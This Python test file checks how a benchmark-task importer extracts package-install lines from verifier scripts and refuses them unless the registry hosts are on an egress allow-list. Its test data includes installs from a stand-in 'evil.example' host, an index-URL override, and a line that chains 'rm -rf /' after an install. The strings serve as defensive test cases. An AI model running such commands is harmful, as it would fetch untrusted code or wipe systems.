"""Test-time installs of an imported Terminal-Bench task (envs/terminal/installs.py): which
hosts each install line needs, and the import's answer with and without the operator's
allow-list (the run through the proxy: tests/adversarial/test_test_installs.py)."""

from __future__ import annotations

import dataclasses
import json
import shutil
import tomllib
from pathlib import Path

import pytest
from pydantic import ValidationError
from typer.testing import CliRunner

from palaestra.cli.main import app
from palaestra.envs.terminal.fields import TerminalPrivate
from palaestra.envs.terminal.harbor.config import Ceilings
from palaestra.envs.terminal.harbor.writer import export_tasks
from palaestra.envs.terminal.importer import import_tasks
from palaestra.envs.terminal.installs import CRATES_HOSTS, NPM_HOSTS, PYPI_HOSTS, take_installs
from palaestra.server.families import FamilyRegistry
from palaestra.server.packs.loader import inspect_pack

FIXTURE = Path(__file__).parents[2] / "fixtures" / "terminal-bench-installs"
runner = CliRunner()


@pytest.mark.parametrize(
    ("line", "requirements", "hosts", "problem"),
    [
        ("pip install six==1.17.0", ["six==1.17.0"], PYPI_HOSTS, None),
        ("pip3 install -q --no-cache-dir requests>=2 numpy", ["requests>=2", "numpy"],
         PYPI_HOSTS, None),
        ("uv pip install --system pandas==2.2.3", ["pandas==2.2.3"], PYPI_HOSTS, None),
        ("python3 -m pip install 'httpx[http2]==0.28.1'", ["httpx[http2]==0.28.1"],
         PYPI_HOSTS, None),
        ("uv add --dev hypothesis", ["hypothesis"], PYPI_HOSTS, None),
        ("pip install -r requirements.txt", [], PYPI_HOSTS, "'-r'"),
        ("pip install git+https://evil.example/x.git", [], PYPI_HOSTS, "by name"),
        ("pip install --index-url https://evil.example/simple six", [], PYPI_HOSTS,
         "'--index-url'"),
        ("npm install lodash", [], NPM_HOSTS, "registry.npmjs.org"),
        ("cargo add serde", [], CRATES_HOSTS, "static.crates.io"),
        ("pip install six >/dev/null 2>&1 || pip3 install six", ["six"], PYPI_HOSTS, None),
        # kept: its failure (no network in the test sandbox) is ignored by the script
        ("cargo add regex 2>/dev/null || true", [], (), None),
        ("npm install left-pad || echo no npm", [], (), None),
        ("cargo add regex || exit 1", [], CRATES_HOSTS, "static.crates.io"),
        # the verifier's own test tooling: taken out, no host needed
        ("pip3 install --no-cache-dir pytest 2>/dev/null || pip install pytest", [], (), None),
        ("pip install six && rm -rf /", [], (), None),  # kept: the importer's network check
        ("# pip install six", [], (), None),
        ("python3 -m pytest tests", [], (), None),
    ],
)  # fmt: skip
def test_install_lines_and_the_hosts_they_need(
    line: str, requirements: list[str], hosts: tuple[str, ...], problem: str | None
) -> None:
    found = take_installs(f"#!/bin/bash\n{line}\necho done\n")
    assert found.requirements == requirements
    assert found.hosts == sorted(hosts)
    taken = bool(hosts) or "install pytest" in line or "install --no-cache-dir pytest" in line
    assert (line in found.script) is not taken  # an install line is taken out
    if problem is None:
        assert found.problems == []
    else:
        assert problem in " ".join(found.problems), found.problems


def test_a_kept_install_is_noted_and_is_no_network_problem(tmp_path: Path) -> None:
    """aider_polyglot's Rust tests (`cargo add regex 2>/dev/null || true`): imported, the line
    kept and noted, no host asked of the operator."""
    task = tmp_path / "src" / "rust-task"
    shutil.copytree(FIXTURE / "pip-six", task)
    (task / "run-tests.sh").write_text(
        "#!/bin/bash\ncargo add regex 2>/dev/null || true\npython3 -m pytest $TEST_DIR -rA\n"
    )
    report = import_tasks("terminal-bench", tmp_path / "src", tmp_path / "pack")
    assert report.skipped == {}
    (notes,) = report.imported.values()
    assert any("cargo add regex" in n and "ignores" in n for n in notes), notes
    meta = tomllib.loads((tmp_path / "pack/tasks/rust-task/task.toml").read_text())
    assert "verifier_hosts" not in meta.get("private", {})
    script = tmp_path / "pack/tasks/rust-task/verifier/run-tests.sh"
    assert "cargo add regex" in script.read_text()


def _import(tmp_path: Path, allow: list[str]) -> dict[str, object]:
    config = tmp_path / "palaestra.toml"
    config.write_text(f"egress_allow = {json.dumps(allow)}\n")
    out = tmp_path / "pack"
    result = runner.invoke(
        app,
        ["pack", "import", "terminal-bench", str(FIXTURE), str(out), "--force"],
        env={"PALAESTRA_CONFIG": str(config)},
        catch_exceptions=False,
    )
    report = json.loads((out / "import-report.json").read_text())
    report["output"] = result.output
    return report


def test_refused_without_the_registries_on_the_allow_list(tmp_path: Path) -> None:
    report = _import(tmp_path, ["deb.debian.org"])
    assert report["imported"] == []
    (skipped,) = report["skipped"]  # type: ignore[misc]
    reason = " ".join(skipped["reasons"])
    assert "files.pythonhosted.org, pypi.org" in reason and "egress_allow" in reason
    assert report["skipped_by_reason"] == {"test-time installs (egress_allow)": 1}
    assert "1 × test-time installs (egress_allow)" in str(report["output"])


def test_imported_with_them_and_its_verifier_policy_recorded(tmp_path: Path) -> None:
    report = _import(tmp_path, ["pypi.org", "*.pythonhosted.org"])
    assert [i["id"] for i in report["imported"]] == ["pip-six"]  # type: ignore[union-attr]
    task = tmp_path / "pack" / "tasks" / "pip-six"
    meta = tomllib.loads((task / "task.toml").read_text())
    assert meta["private"]["verifier_installs"] == ["six==1.17.0"]
    assert meta["private"]["verifier_hosts"] == sorted(PYPI_HOSTS)
    assert "allow_internet" not in meta["public"]  # the agent gets no network
    script = (task / "verifier" / "run-tests.sh").read_text()
    assert "pip install" not in script and "python3 -m pytest" in script


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"verifier_installs": ["--index-url=https://evil.example"],
          "verifier_hosts": ["pypi.org"]}, "not a requirement by name"),
        ({"verifier_installs": ["six"]}, "without verifier_hosts"),
        ({"verifier_installs": ["six"], "verifier_hosts": ["*"]}, "verifier_hosts|\\*"),
    ],
)  # fmt: skip
def test_a_packs_install_fields_are_checked(fields: dict[str, object], message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        TerminalPrivate.model_validate({"verifier": {"test.sh": "true\n"}, **fields})


def test_a_harbor_tasks_installs_too(tmp_path: Path) -> None:
    """Harbor's tests/test.sh: the same taking out, the same answer to the operator's list."""
    src = tmp_path / "src" / "sum-column"
    shutil.copytree(FIXTURE.parent / "harbor" / "sum-column", src)
    test_sh = src / "tests" / "test.sh"
    install = "\npip install six==1.17.0\npytest "
    test_sh.write_text(test_sh.read_text().replace("\npytest ", install))
    for allow, imported in ((PYPI_HOSTS, True), ((), False)):
        ceilings = Ceilings(4096, 4, 4096, 600, 3600, egress_allow=allow)
        out = tmp_path / f"out-{imported}"
        report = import_tasks("harbor", src.parent, out, ceilings=ceilings)
        if imported:
            meta = tomllib.loads((out / "tasks" / "sum-column" / "task.toml").read_text())
            assert meta["private"]["verifier_installs"] == ["six==1.17.0"], report.imported
            script = (out / "tasks" / "sum-column" / "verifier" / "harbor-test.sh").read_text()
            assert "six" not in script and "reward.txt" in script
        else:
            assert "pypi.org" in " ".join(report.skipped["sum-column"]), report.skipped


def test_export_to_harbor_and_back_keeps_the_installs(tmp_path: Path) -> None:
    """`pack export harbor`: Harbor's tests/test.sh runs the install first, and the task's
    metadata carries them back (checked again against this server's list)."""
    allow = Ceilings(4096, 4, 4096, 600, 3600, egress_allow=PYPI_HOSTS)
    import_tasks("terminal-bench", FIXTURE, tmp_path / "pack", name="t/i", ceilings=allow)
    pack, problems = inspect_pack(tmp_path / "pack", FamilyRegistry.discover().all())
    assert pack is not None and problems == [], problems
    export_tasks(list(pack.tasks.values()), tmp_path / "h", pack="t/i", version="1")
    test_sh = (tmp_path / "h" / "pip-six" / "tests" / "test.sh").read_text()
    assert 'pip install six==1.17.0\nbash "$VERIFIER_DIR/test.sh"' in test_sh
    back = import_tasks("harbor", tmp_path / "h", tmp_path / "back", ceilings=allow)
    meta = tomllib.loads((tmp_path / "back" / "tasks" / "pip-six" / "task.toml").read_text())
    assert meta["private"]["verifier_installs"] == ["six==1.17.0"], back.skipped
    closed = dataclasses.replace(allow, egress_allow=())
    refused = import_tasks("harbor", tmp_path / "h", tmp_path / "no", ceilings=closed)
    assert "egress_allow" in " ".join(refused.skipped["pip-six"])
